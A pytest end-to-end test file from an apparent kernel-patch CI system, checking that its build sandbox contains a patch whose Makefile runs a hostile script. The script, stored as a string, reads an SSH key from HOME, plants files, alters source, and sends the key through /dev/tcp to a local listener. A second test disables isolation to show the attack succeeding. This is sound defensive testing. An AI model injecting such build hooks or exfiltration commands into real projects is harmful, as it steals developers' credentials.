# SPDX-License-Identifier: GPL-2.0-or-later
"""A patch whose Makefile attacks the machine that builds it: contained, and shown to succeed where the sandbox is left out."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from kpatch_ci.debian.apt import host_archives
from kpatch_ci.debian.toolroot import ToolRoot, make_toolroot
from kpatch_ci.kernel.build import Builder, BuildRequest
from kpatch_ci.model.arch import ARCHES
from kpatch_ci.model.build import BuildResult
from kpatch_ci.model.status import Status
from kpatch_ci.store.artifacts import ArtifactStore
from kpatch_ci.store.cache import cache_root
from tests.fakes.kernel import MAKEFILE, fake_kernel

pytestmark = pytest.mark.e2e

ATTACK = """\
#!/bin/bash
echo "the attack runs"
cat {home}/.ssh/id_test && echo "it read the secret"
echo "I was here" > {home}/planted && echo "it wrote to HOME"
echo "I was here" > {source}/code && echo "it changed the source"
exec 3<>/dev/tcp/127.0.0.1/{port} && echo "it reached the network" && cat {home}/.ssh/id_test >&3
exit 0
"""
SECRET = "a key that nobody may read"  # noqa: S105


@dataclass(frozen=True, slots=True)
class OpenRoot(ToolRoot):
    """The tool root with its walls down: the host's own network, and HOME as the host has it."""

    home: Path = field(default_factory=Path)

    def argv(self, command: Sequence[str | Path], *, env: Mapping[str, str] | None = None, **how: object) -> list[str]:
        """The real one's, without what isolates."""
        walled = ToolRoot.argv(self, command, env={**(env or {}), "HOME": str(self.home)}, **how)  # type: ignore[arg-type]
        at = walled.index("--setenv")
        return [word for word in walled[:at] if word != "--unshare-all"] + [
            "--bind", str(self.home), str(self.home), *walled[at:]
        ]  # fmt: skip


class Listener:
    """Hears whether anybody connects, and what they say."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                peer, _ = self._socket.accept()
            except OSError:
                return
            with peer:
                peer.settimeout(10)
                self.heard.append(peer.recv(1000))

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A HOME of the test's own, with something to steal."""
    place = tmp_path / "home"
    (place / ".ssh").mkdir(parents=True)
    (place / ".ssh/id_test").write_text(SECRET)
    return place


@pytest.fixture(scope="module")
def tools() -> ToolRoot:
    return make_toolroot(cache_root(), "trixie", host_archives())


def build_hostile(tools: ToolRoot, cache: Path, home: Path, port: int) -> BuildResult:
    """Baseline, then the hostile patch on it, as a run builds them."""
    script = ATTACK.format(home=home, port=port, source="/src")
    hostile = MAKEFILE.replace("vmlinux Image:\n", "vmlinux Image:\n\t-bash $(CURDIR)/attack.sh 2>&1\n")
    tree, (patched,) = fake_kernel(cache / "tree", {"Makefile": hostile, "attack.sh": script, "code": "changed\n"})
    builder = Builder(cache, ArtifactStore(cache / "store"), tools, jobs=1, timeout=120)
    request = BuildRequest("baseline", ARCHES["arm64"], tree, tree.tree_id, {})
    assert builder.build(request, cache / "logs").status is Status.PASSED
    return builder.build(BuildRequest("patched", ARCHES["arm64"], tree, patched, {}), cache / "logs")


def said(result: BuildResult) -> str:
    assert result.status is Status.PASSED, result.log_tail
    assert result.log
    return result.log.read_text()


def test_in_the_sandbox_it_reads_writes_and_reaches_nothing(
    tools: ToolRoot, tmp_path: Path, home: Path, listener: Listener
) -> None:
    log = said(build_hostile(tools, tmp_path / "cache", home, listener.port))
    assert "the attack runs" in log
    for success in ("it read", "it wrote", "it changed", "it reached", SECRET):
        assert success not in log
    assert sorted(p.name for p in home.iterdir()) == [".ssh"]
    assert listener.heard == []
    sources = list((tmp_path / "cache/src").glob("patched-*/code"))
    assert [p.read_text() for p in sources] == ["changed\n"]


def test_without_it_the_same_patch_succeeds_so_the_test_above_can_fail(
    tools: ToolRoot, tmp_path: Path, home: Path, listener: Listener
) -> None:
    walls_down = OpenRoot(tools.path, tools.suite, tools.fingerprint, tools.versions, home=home)
    log = said(build_hostile(walls_down, tmp_path / "cache", home, listener.port))
    for success in ("the attack runs", "it read the secret", "it wrote to HOME", "it reached the network", SECRET):
        assert success in log
    assert (home / "planted").read_text() == "I was here\n"
    assert listener.heard == [SECRET.encode()]
